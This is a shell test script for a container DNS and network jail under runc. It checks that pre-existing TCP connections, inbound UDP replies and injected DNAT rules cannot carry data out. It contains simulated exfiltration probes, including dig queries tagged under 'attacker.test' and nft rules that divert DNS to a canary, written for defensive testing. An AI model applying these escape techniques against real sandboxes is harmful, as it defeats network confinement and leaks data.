#!/bin/bash
# flows.sh: only flows the jail admitted get out (issue 10, items 3 and 4), under runc.
#   3a. A TCP connection opened in the namespace before the hook (conntrack already active, as
#       CNI plugins make it) carries nothing out once the jail is installed.
#   3b. Inbound: TCP to a port the container listens on is served; the container's answers to
#       a UDP conversation opened from outside do not leave, unless allow-inbound-udp.
#   4.  A destination NAT someone else adds to the namespace after the hook (at our nat
#       priority, and before it) does not take DNS out: only redirects to our listeners pass.
# Each case runs once with the jail and once with io.dnsjail.enable=false, the control that
# shows the same probe getting out.
# shellcheck source-path=SCRIPTDIR source=world.sh
. "$(dirname "$0")/world.sh"
world_require runc nft dnsmasq dig
world_require_build
world_up
UDP_CONF=$W_TMP/dnsjail-udp.conf
# W_CONF is the file written last: the default one.
if ! world_dnsjail_conf --file "$UDP_CONF" "allow-inbound-udp = true" || ! world_dnsjail_conf; then
    tap_bail "cannot write the dnsjail configuration"
fi
grep -q "allow-inbound-udp" "$W_CONF" && tap_bail "W_CONF is not the default configuration"

FLOWS_PY=$W_E2E_DIR/flows.py
LISTEN_PORT=7001
in_ns() { nsenter --net="$1" "${@:2}"; }

# A listener in the internet that logs every line of every connection (the canary's logs only
# a connection's first bytes).
LISTEN_LOG=$W_TMP/listen.log
: >"$LISTEN_LOG"
# nsenter itself, not in_ns: a function in the background is a subshell, whose pid ($!) the
# world's cleanup would kill, leaving the listener it started behind.
nsenter --net="/run/netns/$W_INET" python3 "$FLOWS_PY" listen "$LISTEN_LOG" "$LISTEN_PORT" \
    >"$W_TMP/listen.out" 2>&1 &
W_PIDS+=($!)
wait_until 10 grep -qs '^ready' "$W_TMP/listen.out" || tap_bail "the internet's listener did not start"

# Starts container ID in NS in the background (runc run -d), with the hook and CONF; returns
# once the hook has run. ENABLE: io.dnsjail.enable.
start_detached() { # ID NS ENABLE CONF CMD...
    local id=$1 ns=$2 enable=$3 conf=$4 b
    shift 4
    b=$(world_bundle "$id" --netns "$ns" --hook "$W_HOOK" --hook-config "$conf" \
        --annotation "io.dnsjail.enable=$enable" --bind "$FLOWS_PY:/flows.py" -- "$@") || return 1
    W_CONTAINERS+=("runc $id")
    _run_capture "$id" runc_cmd run -d --bundle "$b" "$id"
    [ "$RUN_RC" -eq 0 ] || { tap_diag_file "$RUN_ERR" 5; return 1; }
}
stop() { runc_cmd delete -f "$1" >/dev/null 2>&1; }

# Connection tracking on in NS before the hook, the way CNI plugins and Docker leave it.
conntrack_on() { # NS
    in_ns "$1" nft -f - <<'NFT'
table inet cni {
  chain out { type filter hook output priority 0; policy accept; ct state established counter; }
}
NFT
}

# ---- 3a: a connection older than the jail ------------------------------------------------
# Does NS track an established connection to the internet's listener?
ct_established() { # NS
    in_ns "$1" cat /proc/net/nf_conntrack 2>/dev/null | grep -qE "ESTABLISHED .*dport=$LISTEN_PORT "
}

# Not in a $(...) subshell (world_ctns must register its cleanup): results go to OUT and TAG.
old_connection() { # LABEL ENABLE: OUT = the sender's status
    local label=$1 enable=$2 ns status
    TAG=$(world_random)
    OUT=
    world_ctns "old$label" || return 1
    ns=$W_NS
    conntrack_on "$ns" || return 1
    status=$W_TMP/sender-$label.status
    in_ns "$ns" python3 "$FLOWS_PY" sender 203.0.113.70 "$LISTEN_PORT" "$TAG" \
        "$W_TMP/trigger-$label" "$status" >"$W_TMP/sender-$label.out" 2>&1 &
    W_PIDS+=($!)
    # The connection is up and carries data before the hook runs.
    wait_until 10 grep -qF "hello-$TAG" "$LISTEN_LOG" || { OUT="no hello"; return 1; }
    CT_BEFORE=no CT_AFTER=no
    ct_established "$ns" && CT_BEFORE=yes
    start_detached "$W_ID-old$label" "$ns" "$enable" "$W_CONF" /bin/sleep 120 || return 1
    ct_established "$ns" && CT_AFTER=yes
    touch "$W_TMP/trigger-$label"
    wait_until 15 test -s "$status" || { OUT="the sender never finished"; return 1; }
    OUT=$(cat "$status")
}

echo "# 3a: a TCP connection opened before the hook"
old_connection ctl false
tap_check "control: conntrack tracked the connection before the hook" test "$CT_BEFORE" = yes
tap_check "control (enable=false): and still after it" test "$CT_AFTER" = yes
tap_check "control (enable=false): the old connection sends its token" \
    wait_until 5 grep -qF "token-$TAG" "$LISTEN_LOG" || tap_diag "sender: $OUT"
stop "$W_ID-oldctl"
old_connection jail true
tap_check "jailed: the old connection is reset at its next send" \
    eval '[[ $OUT == error:* ]]' || tap_diag "sender: $OUT"
tap_check "jailed: the token never reached the internet" eval '! grep -qF "token-$TAG" "$LISTEN_LOG"'
tap_check "jailed: the hello sent before the hook did arrive (the probe worked)" \
    grep -qF "hello-$TAG" "$LISTEN_LOG"
tap_check "jailed: conntrack tracked the connection before the hook" test "$CT_BEFORE" = yes
tap_check "jailed: the hook's flush dropped its entry" test "$CT_AFTER" = no
stop "$W_ID-oldjail"

# ---- 3b: conversations opened from outside -----------------------------------------------
inbound() { # LABEL ENABLE CONF: OUT = the client's line
    local label=$1 enable=$2 conf=$3 ns addr tag
    tag=$(world_random)
    OUT=
    world_ctns "in$label" || return 1
    ns=$W_NS
    addr=192.0.2.$((W_NS_COUNT + 1))
    start_detached "$W_ID-in$label" "$ns" "$enable" "$conf" \
        /usr/bin/python3 /flows.py serve 8080 5000 "$tag" || return 1
    wait_until 10 in_ns "/run/netns/$W_INET" python3 -c "
import socket; socket.create_connection(('$addr', 8080), timeout=1).close()" 2>/dev/null || true
    OUT=$(in_ns "/run/netns/$W_INET" python3 "$FLOWS_PY" client "$addr" 8080 5000 "$tag")
    stop "$W_ID-in$label"
}
echo "# 3b: inbound TCP and UDP"
inbound ctl false "$W_CONF"
tap_check "control (enable=false): TCP to the container's listener is served" \
    eval '[[ $OUT == "tcp=served-"* ]]' || tap_diag "$OUT"
tap_check "control (enable=false): the container's UDP answer arrives" \
    eval '[[ $OUT == *" udp=udp-"* ]]' || tap_diag "$OUT"
inbound jail true "$W_CONF"
tap_check "jailed: TCP to the container's listener is served" \
    eval '[[ $OUT == "tcp=served-"* ]]' || tap_diag "$OUT"
tap_check "jailed: the server answered the datagram (the moment passed)" \
    eval '[[ $OUT == *" after=served-"*"udp=1 "* ]]' || tap_diag "$OUT"
tap_check "jailed: the container's UDP answer did not leave" \
    eval '[[ $OUT == *" udp=none" ]]' || tap_diag "$OUT"
inbound udp true "$UDP_CONF"
tap_check "jailed, allow-inbound-udp: TCP is served" \
    eval '[[ $OUT == "tcp=served-"* ]]' || tap_diag "$OUT"
tap_check "jailed, allow-inbound-udp: the UDP answer arrives" \
    eval '[[ $OUT == *" udp=udp-"* ]]' || tap_diag "$OUT"

# ---- 4: someone else's destination NAT ---------------------------------------------------
# After the hook: port 5353 to 198.51.100.9 goes to the canary resolver (a rule at our nat
# priority, in another table), and port 53 to 198.51.100.10 too (a rule that runs before ours).
foreign_nat() { # NS
    in_ns "$1" nft -f - <<'NFT'
table ip foreign_same {
  chain out { type nat hook output priority -150; policy accept;
    ip daddr 198.51.100.9 udp dport 5353 dnat to 203.0.113.53:53; }
}
table ip foreign_first {
  chain out { type nat hook output priority -160; policy accept;
    ip daddr 198.51.100.10 udp dport 53 dnat to 203.0.113.53:53; }
}
NFT
}
dig_in() { # NS SERVER PORT NAME
    in_ns "$1" dig +time=2 +tries=1 +short -p "$3" "@$2" "$4" A 2>&1
}
foreign_dnat() { # LABEL ENABLE
    local label=$1 enable=$2 ns
    TAG=$(world_random)
    world_ctns "nat$label" || return 1
    ns=$W_NS
    start_detached "$W_ID-nat$label" "$ns" "$enable" "$W_CONF" /bin/sleep 120 || return 1
    foreign_nat "$ns" || return 1
    SAME=$(dig_in "$ns" 198.51.100.9 5353 "same-$TAG.attacker.test")
    FIRST=$(dig_in "$ns" 198.51.100.10 53 "first-$TAG.attacker.test")
    LATER=$(dig_in "$ns" 192.0.2.1 53 "later-$TAG.attacker.test")
    stop "$W_ID-nat$label"
}
echo "# 4: foreign DNAT"
foreign_dnat ctl false
tap_check "control (enable=false): the foreign DNAT at our priority sends the query to the canary" \
    canary_saw_dns "same-$TAG" || tap_diag "$SAME"
tap_check "control (enable=false): the foreign DNAT before ours sends the query to the canary" \
    canary_saw_dns "first-$TAG" || tap_diag "$FIRST"
foreign_dnat jail true
tap_check "jailed: an ordinary query after both is still answered by the stub" \
    test "$LATER" = 6.6.6.6 || tap_diag "$LATER"
tap_check "jailed: the query DNATed at our priority never reached the canary" \
    eval 'canary_none_dns "same-$TAG"' || tap_diag "$SAME"
tap_check "jailed: the query DNATed before our nat never reached the canary" \
    eval 'canary_none_dns "first-$TAG"' || tap_diag "$FIRST"
tap_check "jailed: the query at our priority got no answer" eval '[ "$SAME" != 203.0.113.7 ]' ||
    tap_diag "$SAME"

tap_done
